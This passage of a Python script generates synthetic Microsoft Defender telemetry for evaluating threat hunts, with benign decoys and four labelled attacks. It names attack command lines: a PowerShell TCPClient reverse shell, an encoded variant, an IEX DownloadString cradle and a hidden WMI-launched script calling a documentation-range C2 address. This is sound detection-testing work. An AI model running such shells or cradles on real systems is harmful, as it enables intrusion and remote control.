                    f"export_orders.sql -o D:\\Exports\\orders_{yesterday}.csv", lo=80, hi=300)
    dev.connect(sql, sql.created + dev.ms(50, 300), SQL01, 1433)
    dev.spawn(job, "Robocopy", "robocopy  D:\\Exports \\\\fs01.corp.contoso.com\\exports$\\"
              "srv-app-02 /MIR /R:2 /W:5 /NP /LOG:D:\\Jobs\\logs\\robocopy.log",
              sql.created + timedelta(seconds=rng.uniform(40, 140)))
    for _ in range(4):
        dev.connect(api, day.between(0.5, 23.5), SQL01, 1433)
    clients = [w for w in workstations if w is not dev]
    when = 7.5
    while when < 18.5:
        when += rng.uniform(0.08, 0.3)
        dev.accept(api, day.at(when), rng.choice(clients).ip, 8443)
    # The administrator's RDP session (from ws-it-007 at 10:02) and a service restart.
    # The server's clock runs a few milliseconds apart from the workstations'.
    dev.accept(dev.procs["TermService"], day.moments["rdp"] + dev.ms(2, 40), it_ws.ip, 3389)
    explorer = logon(dev, admin, day.moments["rdp"] + dev.ms(900, 2_000), rdp=True)
    dev.accept(dev.procs["RPCSS"], day.moments["get-service-rpc"] + dev.ms(2, 40), it_ws.ip, 135)
    console = dev.spawn(explorer, "powershell", f'"{POWERSHELL_EXE}" ', day.at(10, 6, 40))
    dev.console(console)
    for minute, command in (
            (7, "Get-Service ContosoOrders, W3SVC"),
            (9, "Get-WinEvent -LogName Application -MaxEvents 20"),
            (12, "Restart-Service -Name ContosoOrders -Force")):
        dev.spawn(console, "powershell", f'powershell.exe -NoProfile -Command "{command}"',
                  day.at(10, minute, rng.uniform(0, 59)))
    # Attack 4: WMI from ws-fin-014 starts a script from C:\Users\Public; nothing in its command
    # line looks suspicious, but it calls out to a public address.
    fin = next(w for w in workstations if w.name.startswith("ws-fin"))
    inbound = dev.accept(dev.procs["RPCSS"], day.moments["wmi-rpc"] + dev.ms(2, 40), fin.ip, 135)
    wmi = dev.spawn(dev.procs["DcomLaunch"], "WmiPrvSE",
                    "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                    day.at(21, 43, 11), NETWORK_SERVICE)
    stolen = replace(admin, logon_id=rng.randrange(10**8, 10**9), session=0)
    ps = dev.spawn(wmi, "powershell",
                   "powershell.exe -nop -w hidden -File C:\\Users\\Public\\x.ps1",
                   day.at(21, 43, 12), stolen)
    dev.console(ps)
    net = dev.connect(ps, ps.created + dev.ms(600, 1_500), ("", C2_FILE[0]), C2_FILE[1],
                      url=False)
    day.mark_process("attack-4-file-script-public-connection", dev, ps)
    day.mark("attack-4-file-script-public-connection/c2", dev, NETWORK_TABLE, net)
    day.mark("attack-4-file-script-public-connection/wmi-inbound", dev, NETWORK_TABLE, inbound)


# --- Assembly -----------------------------------------------------------------------------

DEVICES = [  # name, ip, role, server
    ("ws-fin-014", "10.30.1.44", "Finance workstation (Windows 11)", False),
    ("ws-hr-022", "10.30.1.71", "HR workstation (Windows 11)", False),
    ("ws-eng-031", "10.30.2.18", "Developer workstation (Windows 11)", False),
    ("ws-it-007", "10.30.4.17", "IT administrator's workstation (Windows 11)", False),
    ("ws-sales-019", "10.30.1.95", "Sales workstation (Windows 11)", False),
    ("srv-app-02", "10.20.2.22", "Application server (Windows Server 2022)", True),
]


def simulate(day_text: str) -> Day:
    rng = random.Random(SEED)
    start = datetime.fromisoformat(day_text).replace(tzinfo=UTC)
    day = Day(start, rng)
    for name, ip, role, is_server in DEVICES:
        device = Device(f"{name}.{DNS_SUFFIX}", f"{rng.getrandbits(160):040x}", ip, is_server, role,
                        random.Random(rng.getrandbits(64)), start)
        boot(device, start - timedelta(days=rng.randint(1, 6), hours=rng.uniform(0, 12)))
        day.devices.append(device)
    people = {
        "fin": person(rng, "alice.moreau", "Accounts payable"),
        "hr": person(rng, "bilal.kaur", "HR partner"),
        "eng": person(rng, "dana.chen", "Software engineer"),
        "it": person(rng, "erik.santos", "Systems administrator"),
        "sales": person(rng, "farah.nakamura", "Account manager"),
    }
    day.people = {p.account.name: p for p in people.values()}
    admin = admin_of(people["it"], rng, "adm-esantos", 1)
    fin, hr, eng, it, sales, server = day.devices
    scenario_finance(day, fin, people["fin"])
    scenario_hr(day, hr, people["hr"])
    scenario_engineer(day, eng, people["eng"])
    scenario_it(day, it, people["it"], admin)
    scenario_sales(day, sales, people["sales"])
    scenario_server(day, server, replace(admin, session=2), day.devices, it)
    for device in day.devices:
        assign_report_ids(device)
    return day


def assign_report_ids(device: Device) -> None:
    """ReportIds are unique per device across both tables and grow with time, as in Defender."""
    rows = sorted(device.process_rows + device.network_rows, key=lambda r: str(r["Timestamp"]))
    report_id = device.rng.randrange(4_000, 90_000)
    for row in rows:
        report_id += device.rng.randint(1, 17)
        row["ReportId"] = report_id


# Generated but not written, to keep the files commit-sized (a row carries every column name).
OMITTED = frozenset({
    "SHA1", "MD5", "FileSize", "ProcessVersionInfoProductVersion",
    "ProcessVersionInfoInternalFileName", "AccountObjectId", "CreatedProcessSessionId",
    "IsProcessRemoteSession", "InitiatingProcessSHA1", "InitiatingProcessMD5",
    "InitiatingProcessFileSize", "InitiatingProcessVersionInfoCompanyName",
    "InitiatingProcessVersionInfoProductName", "InitiatingProcessVersionInfoProductVersion",
    "InitiatingProcessVersionInfoInternalFileName", "InitiatingProcessVersionInfoOriginalFileName",
    "InitiatingProcessVersionInfoFileDescription", "InitiatingProcessAccountUpn",
    "InitiatingProcessAccountObjectId", "InitiatingProcessTokenElevation",
    "InitiatingProcessLogonId", "InitiatingProcessSessionId", "IsInitiatingProcessRemoteSession",
})


def ordered(row: dict[str, Any], columns: Sequence[str]) -> dict[str, Any]:
    unknown = set(row) - set(columns)
    if unknown:
        raise ValueError(f"columns not in the schema: {sorted(unknown)}")
    return {name: row[name] for name in columns if name in row and name not in OMITTED}


def jsonl(rows: list[dict[str, Any]], table: str) -> bytes:
    columns = list(table_schemas("defender")[table])
    rows = sorted(rows, key=lambda r: (r["Timestamp"], r["DeviceName"], r["ReportId"]))
    return "".join(json.dumps(ordered(r, columns), ensure_ascii=False, separators=(",", ":")) + "\n"
                   for r in rows).encode("utf-8")


ATTACKS = {
    "attack-1-tcpclient-plaintext": (
        "PowerShell TCPClient reverse shell, plaintext, with an iex command loop; "
        "OUTLOOK.EXE > WINWORD.EXE > cmd.exe /c powershell -nop -c", ["T1566.001", "T1204.002",
                                                                     "T1059.001", "T1095"]),
    "attack-2-tcpclient-encoded": (
        "The same TCPClient shell as -EncodedCommand (UTF-16LE base64, switch -e); "
        "OUTLOOK.EXE > EXCEL.EXE > cmd.exe > powershell -nop -w hidden -e",
        ["T1566.001", "T1204.002", "T1059.001", "T1027", "T1095"]),
    "attack-3-download-cradle": (
        "IEX (New-Object Net.WebClient).DownloadString('http://...') cradle, started by the "
        "attack-1 shell", ["T1059.001", "T1105"]),
    "attack-4-file-script-public-connection": (
        "powershell.exe -nop -w hidden -File C:\\Users\\Public\\x.ps1 started by WmiPrvSE.exe "
        "(WMI from ws-fin-014); the command line holds no indicator, the process connects to a "
        "public address", ["T1047", "T1021.006", "T1059.001", "T1071.001"]),
}
HARD_NEGATIVES = {
    "tcpclient-port-probe": "admin TcpClient port probe to sql01:1433 that connects and closes "
                            "(matches the seed hunt's exact string)",
    "pwsh-encoded-dir": "pwsh -EncodedCommand of dir \"C:\\Program Files\" (PowerShell docs)",
    "update-help-public": "Update-Help: powershell.exe connects to public Microsoft addresses "
                          "on 443",
    "invoke-webrequest-intranet": "Invoke-WebRequest to the intranet (private address)",
    "test-netconnection": "Test-NetConnection to fs01:445",
    "admin-get-service": "Get-Service against the server (RPC to 10.20.2.22:135)",
    "hourly-health-check-file": "scheduled powershell -WindowStyle Hidden -File D:\\Jobs\\... "
                                "that connects to sql01:1433 (private), every hour",
    "inventory-file-script": "daily hidden -File script from C:\\ProgramData that uploads to the "
                             "intranet",
}


def manifest(day: Day, day_text: str) -> dict[str, Any]:
    by_key: dict[str, list[Marker]] = {}
    for marker in day.markers:
        by_key.setdefault(marker.key.split("/", 1)[0], []).append(marker)

    def entry(marker: Marker, role: str) -> dict[str, Any]:
        row = marker.row
        item: dict[str, Any] = {"role": role, "table": marker.table,
                                "device": marker.device.name, "DeviceId": row["DeviceId"],
                                "ReportId": row["ReportId"], "Timestamp": row["Timestamp"]}
        if marker.table == PROCESS_TABLE:
            item.update(FileName=row["FileName"], ProcessId=row["ProcessId"],
                        ProcessCreationTime=row["ProcessCreationTime"])
        else:
            item.update(ActionType=row["ActionType"], RemoteIP=row["RemoteIP"],
                        RemotePort=row["RemotePort"], RemoteIPType=row["RemoteIPType"],
                        InitiatingProcessId=row["InitiatingProcessId"],
                        InitiatingProcessCreationTime=row["InitiatingProcessCreationTime"])
        return item

    def described(key: str, description: str, extra: dict[str, Any]) -> dict[str, Any]:
        markers = by_key[key]
        main = next(m for m in markers if "/" not in m.key)
        markers = [main] + [m for m in markers if m is not main]
        return {"id": key, "description": description, "device": main.device.name,
                "DeviceId": main.row["DeviceId"], "time": main.row["Timestamp"],
                "table": main.table, "ReportId": main.row["ReportId"], **extra,
                "rows": [entry(m, m.key.partition("/")[2] or "main")
                         for m in markers]}

    return {
        "day": day_text, "seed": SEED, "generator": "python -m devtools.make_samples "
        f"--out samples --day {day_text}",
        "files": {PROCESS_TABLE: f"{PROCESS_TABLE}.jsonl", NETWORK_TABLE: f"{NETWORK_TABLE}.jsonl"},
        "devices": [{"DeviceName": d.name, "DeviceId": d.device_id, "ip": d.ip, "role": d.role}
                    for d in day.devices],
        "attacks": [described(key, text, {"mitre": mitre})
                    for key, (text, mitre) in ATTACKS.items()],
        "hard_negatives": [described(key, text, {}) for key, text in HARD_NEGATIVES.items()],
    }


def readme(day: Day, meta: dict[str, Any], sizes: dict[str, tuple[int, int]]) -> str:
    day_text = meta["day"]
    lines = [
        "# Sample telemetry: one day of Defender advanced hunting",
        "",
        f"Generated by `python -m devtools.make_samples --out samples --day {day_text}` "
        f"(`devtools/make_samples.py`, seed {SEED}; no clock is read, so the output is "
        "reproducible byte for byte and `tests/test_samples.py` fails if these files drift "
        "from the generator). Edit the generator, never these files.",
        "",
        "| file | rows | bytes |",
        "|---|---|---|",
    ]
    for name, (rows, size) in sizes.items():
        lines.append(f"| `{name}` | {rows} | {size:,} |")
    lines += [
        "",
        "`DeviceProcessEvents.jsonl` and `DeviceNetworkEvents.jsonl` hold one event a line, "
        "columns named and typed as in `shared/table_schemas.json` (Defender XDR advanced "
        "hunting), timestamps ISO 8601 UTC with microseconds. `manifest.json` lists the "
        "devices, the attacks and some benign look-alikes (hard negatives), each with the "
        "`DeviceId` and `ReportId` of its rows (ReportIds are unique per device across both "
        "tables).",
        "",
        "To keep the files commit-sized, a few columns that the generator knows are not written "
        "(they load as null): " + ", ".join(f"`{c}`" for c in sorted(OMITTED)) + ". Everything "
        "else the generator models is filled in every row: identity and hashes (SHA256), "
        "version info of the created process, command lines, process ids and creation times of "
        "the process, its parent and grandparent, accounts with SID, UPN, logon id, integrity "
        "level and token elevation, and `ReportId`.",
        "",
        "```",
        "huntwire eval --events DeviceProcessEvents=samples/DeviceProcessEvents.jsonl \\",
        "  --events DeviceNetworkEvents=samples/DeviceNetworkEvents.jsonl "
        f"--now {(day.start + timedelta(days=1)).strftime('%Y-%m-%dT%H:%M:%SZ')}",
        "```",
        "",
        "A hunt sees only its lookback window before `--now` (default 4 h): pick `--now` "
        "(or the hunt's `lookback`) so the window covers the attack you want to see.",
        "",
        f"## The day ({day_text}, 00:00 to 24:00 UTC)",
        "",
        f"Domain `{DOMAIN}` (`{DNS_SUFFIX}`); internal hosts outside the sample: "
        f"`{DC01[0]}` {DC01[1]}, `{FS01[0]}` {FS01[1]}, `{SQL01[0]}` {SQL01[1]}, "
        f"`{INTRANET[0]}` {INTRANET[1]}.",
        "",
        "| device | DeviceId | IP | role |",
        "|---|---|---|---|",
    ]
    for device in day.devices:
        lines.append(f"| `{device.name}` | `{device.device_id}` | {device.ip} | {device.role} |")
    lines += [
        "",
        "Benign activity on every device: service hosts, Defender (MsMpEng, MsSense, "
        "`MpCmdRun -SignatureUpdate`), Windows Update (`usoclient StartScan`, MoUsoCoreWorker), "
        "CompatTelRunner, WMI provider hosts, Kerberos and LDAP to the domain controller, a "
        "daily hidden `-File` inventory script and a `cmd.exe /c` clean-up batch from Task "
        "Scheduler. Workstation users (alice.moreau, bilal.kaur, dana.chen, erik.santos, "
        "farah.nakamura) work roughly 08:00 to 17:30 with a lunch break: Outlook, Teams "
        "(WebView2), Edge with its utility and renderer processes (whose command lines carry "
        "base64 `--gpu-preferences`), Word, Excel, PowerPoint, Notepad, OneDrive, links opened "
        "from mail and chat, Edge and OneDrive updaters. ws-eng-031 and ws-sales-019 restart "
        "for updates around 03:00 (the boot chain is in the data) and log on in the morning; "
        "the other sessions began the day before. ws-eng-031 uses Windows Terminal, pwsh, git "
        "(to github.com) and VS Code. ws-it-007's administrator runs a run-as console "
        "(`adm-esantos`, through seclogon) with admin PowerShell: Get-Service, Get-WinEvent, "
        "Test-NetConnection, a TcpClient port probe, Invoke-WebRequest to the intranet, "
        "Update-MpSignature, Update-Help, Get-ADUser; and RDPs to srv-app-02 at 10:02, where "
        "he restarts the ContosoOrders service. srv-app-02 serves the Contoso Orders API on 8443 "
        "(inbound connections from the workstations), runs a nightly export batch at 01:30 "
        "(sqlcmd, robocopy) and an hourly hidden `-File` health check.",
        "",
        "## Attacks",
        "",
        "| # | time (UTC) | device | what | process ReportId | C2 (network ReportId) |",
        "|---|---|---|---|---|---|",
    ]
    for number, attack in enumerate(meta["attacks"], 1):
        c2 = next(r for r in attack["rows"] if r["table"] == NETWORK_TABLE
                  and r["role"] == "c2")
        lines.append(f"| {number} | {attack['time'][11:19]} | `{attack['device']}` | "
                     f"{attack['description']} | {attack['ReportId']} | "
                     f"{c2['RemoteIP']}:{c2['RemotePort']} ({c2['ReportId']}) |")
    lines += [
        "",
        "Story: two phishing footholds (Word on ws-fin-014 in the morning, Excel on ws-hr-022 "
        "after lunch). In the evening the operator of the ws-fin-014 shell downloads a second "
        "stage through a cradle and moves to srv-app-02 over WMI with the administrator's "
        "stolen account, running a script dropped in `C:\\Users\\Public`. The shells on "
        "ws-fin-014 also run `whoami`, `ipconfig` and `net group` as child processes.",
        "",
        "Every attack process has a network event to its C2 address whose `DeviceId`, "
        "`InitiatingProcessId` and `InitiatingProcessCreationTime` equal the process event's "
        "`DeviceId`, `ProcessId` and `ProcessCreationTime`. Attacks 1 and 2 also have the "
        "launching `cmd.exe` row (its command line holds the same payload). The C2 addresses "
        "are in the IETF documentation ranges 203.0.113.0/24 and 198.51.100.0/24 (RFC 5737), "
        "reserved and routed nowhere, so they belong to nobody; `RemoteIPType` is nevertheless "
        "`Public`, as Defender reports the routable address of a real attacker.",
        "",
        "## Hard negatives",
        "",
        "Benign rows that resemble the attacks (listed in `manifest.json`):",
        "",
    ]
    for negative in meta["hard_negatives"]:
        lines.append(f"- {negative['time'][11:19]} `{negative['device']}` ReportId "
                     f"{negative['ReportId']}: {negative['description']}")
    lines += [
        "",
        "Benign public endpoints use addresses in Microsoft's, GitHub's, Google's and "
        "Wikimedia's ranges with the host names their services use; they are illustrative, not "
        "captured.",
        "",
        "## Sources and licences of copied command lines",
        "",
        "Everything here is synthetic and written for huntwire, except these command lines, "
        "taken from the development part of the project's PowerShell corpus "
        "(`corpus/SOURCES.md`, ids in brackets):",
        "",
        "| used for | source | licence | change |",
        "|---|---|---|---|",
        "| attack 1 | [0dayCTF/reverse-shell-generator](https://github.com/0dayCTF/"
        "reverse-shell-generator/blob/9fda27f91b1b1f370539dd534bc3bbb1f6b49bf6/js/data.js) "
        "`js/data.js`, \"PowerShell #2\" (mal-013) | MIT | template filled with "
        f"{C2_PLAIN[0]}:{C2_PLAIN[1]}; launched through `cmd.exe /c` |",
        "| attack 2 | the same repository, `js/script.js` + `js/data.js`, \"PowerShell #3 "
        "(Base64)\" (mal-005) | MIT | payload filled with "
        f"{C2_ENCODED[0]}:{C2_ENCODED[1]} and encoded with the generator's algorithm "
        "(UTF-16LE, base64); flags `-nop -w hidden -e` |",
        "| pwsh `-EncodedCommand` on ws-eng-031 | [MicrosoftDocs/PowerShell-Docs]"
        "(https://github.com/MicrosoftDocs/PowerShell-Docs/blob/"
        "27138b21b41de3e2b43cfcac4a56861ca419d5eb/reference/7.4/Microsoft.PowerShell.Core/"
        "About/about_Pwsh.md) about_Pwsh, -EncodedCommand example (ben-010) | CC-BY-4.0 | none |",
        "| `Get-WinEvent -LogName Security` on ws-it-007 | [MicrosoftDocs/PowerShell-Docs]"
        "(https://github.com/MicrosoftDocs/PowerShell-Docs/blob/"
        "27138b21b41de3e2b43cfcac4a56861ca419d5eb/reference/5.1/Microsoft.PowerShell.Core/"
        "About/about_PowerShell_exe.md) about_PowerShell_exe example (ben-005) | CC-BY-4.0 | "
        "none |",
        "| `Update-Help` on ws-it-007 | [MicrosoftDocs/PowerShell-Docs](https://github.com/"
        "MicrosoftDocs/PowerShell-Docs/blob/27138b21b41de3e2b43cfcac4a56861ca419d5eb/reference/"
        "5.1/Microsoft.PowerShell.Core/Update-Help.md) Update-Help example (ben-101) | "
        "CC-BY-4.0 | wrapped in `powershell.exe -Command` as in the corpus |",
        "",
        "The download cradle, the `-File` script, the TcpClient port probe and all other "
        "command lines were written for these samples.",
        "",
    ]
    return "\n".join(lines)


def generate(out: Path, day_text: str = DEFAULT_DAY) -> dict[str, Path]:
    """Write the sample files into *out*; returns them by name."""
    date.fromisoformat(day_text)  # reject anything but YYYY-MM-DD
    day = simulate(day_text)
    process_rows = [r for d in day.devices for r in d.process_rows]
    network_rows = [r for d in day.devices for r in d.network_rows]
    contents = {f"{PROCESS_TABLE}.jsonl": jsonl(process_rows, PROCESS_TABLE),
                f"{NETWORK_TABLE}.jsonl": jsonl(network_rows, NETWORK_TABLE)}
    meta = manifest(day, day_text)
    contents["manifest.json"] = (json.dumps(meta, indent=1, ensure_ascii=False) + "\n").encode()
    sizes = {name: (data.count(b"\n"), len(data)) for name, data in contents.items()
             if name.endswith(".jsonl")}
    contents["README.md"] = readme(day, meta, sizes).encode("utf-8")
    out.mkdir(parents=True, exist_ok=True)
    written: dict[str, Path] = {}
    for name, data in contents.items():
        path = out / name
        path.write_bytes(data)
        written[name] = path
    return written


def _day(text: str) -> str:
    try:
        return date.fromisoformat(text).isoformat()
    except ValueError as exc:
        raise argparse.ArgumentTypeError(f"'{text}' is not a day (YYYY-MM-DD)") from exc


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m devtools.make_samples",
                                     description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--out", type=Path, default=Path("samples"), help="output folder")
    parser.add_argument("--day", default=DEFAULT_DAY, type=_day, help="UTC day, YYYY-MM-DD")
    args = parser.parse_args(argv)
    for name, path in generate(args.out, args.day).items():
        print(f"{path}  {path.stat().st_size:>9,} bytes  ({name})")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
